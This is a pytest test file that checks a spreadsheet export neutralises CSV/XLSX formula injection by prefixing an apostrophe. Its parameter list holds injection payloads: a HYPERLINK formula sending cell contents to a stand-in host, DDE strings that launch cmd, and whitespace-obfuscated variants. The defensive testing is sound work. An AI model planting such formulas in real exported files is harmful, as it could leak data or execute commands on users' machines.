"""Spreadsheet cells never run user text as a formula (CSV and XLSX injection)."""

from __future__ import annotations

import csv

import pytest

from geo.report import RowError, write_report
from geo.spreadsheet import neutralise


@pytest.mark.parametrize(
    "value",
    [
        '=HYPERLINK("http://exemple.test/?x="&A1;"clic")',
        "+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "\u00a0=1+1",
        "＝1+1",
    ],
)
def test_formulas_get_a_leading_apostrophe(value):
    assert neutralise(value) == "'" + value


@pytest.mark.parametrize(
    "value", ["Résidence des Tilleuls", "", "-3", "+33", "12,5", "-0.25", "a=b", "1 = 1"]
)
def test_text_and_plain_numbers_are_left_as_they_are(value):
    assert neutralise(value) == value


def test_the_import_report_neutralises_the_values_it_quotes(tmp_path):
    path = tmp_path / "rapport.csv"
    write_report([RowError(2, "=nom", '=HYPERLINK("x")', "nom invalide")], path)
    rows = list(csv.reader(path.read_text(encoding="utf-8-sig").splitlines(), delimiter=";"))
    assert rows[1] == ["2", "'=nom", '\'=HYPERLINK("x")', "nom invalide"]
